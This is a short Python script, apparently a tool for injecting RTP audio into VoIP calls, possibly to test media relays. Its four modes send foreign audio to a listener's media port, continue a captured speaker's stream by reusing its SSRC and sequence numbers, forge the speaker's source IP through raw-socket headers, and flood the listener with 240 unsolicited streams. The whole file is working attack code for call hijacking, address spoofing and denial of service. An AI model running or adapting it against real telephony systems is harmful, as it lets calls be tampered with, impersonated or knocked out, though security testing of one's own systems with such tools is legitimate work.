#!/usr/bin/env python3
"""Sends RTP that belongs to nobody: inject.py MODE CAPTURE OWN-ADDRESS SPEAKER LISTENER SECONDS.

MODE stranger: an own voice, from the own address, to the port where LISTENER hears SPEAKER.
MODE continue: SPEAKER's stream goes on (SSRC, numbers, times) from the own address.
MODE spoof: an own voice with SPEAKER's address and port as source (raw socket).
MODE flood: 240 streams from as many ports to LISTENER, without any call.
"""
import socket
import struct
import sys
import time

from overheard import last_voice

mode, capture, own, speaker, listener, seconds = sys.argv[1:]
NOISE = bytes((37 * n) & 255 for n in range(160))


def voice(kind, number, stamp, ssrc):
    return struct.pack("!BBHII", 0x80, kind, number & 0xFFFF, stamp & 0xFFFFFFFF, ssrc) + NOISE


def plain(port):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.bind((own, port))
    return lambda packet, target: sender.sendto(packet, target)


def forged(port):
    """UDP without a checksum under an IP header of our own."""
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(packet, target):
        udp = struct.pack("!HHHH", port, target[1], 8 + len(packet), 0) + packet
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                           socket.inet_aton(speaker), socket.inet_aton(target[0]))
        sender.sendto(head + udp, target)
    return send


def stream():
    sport, dport, kind, number, stamp, ssrc = last_voice(capture, speaker, listener)
    if mode != "continue":
        number, stamp, ssrc = 500, 160, 0x0BADCAFE
    send = forged(sport) if mode == "spoof" else plain(40000)
    for turn in range(int(float(seconds) * 50)):
        send(voice(kind, number + turn + 1, stamp + 160 * (turn + 1), ssrc), (listener, dport))
        time.sleep(0.02)


def flood():
    senders = [plain(42000 + 2 * n) for n in range(240)]
    for turn in range(int(float(seconds) * 5)):
        for n, send in enumerate(senders):
            send(voice(8, turn, 160 * turn, 0x1000 + n), (listener, 18000 + 2 * n))
        time.sleep(0.2)


flood() if mode == "flood" else stream()
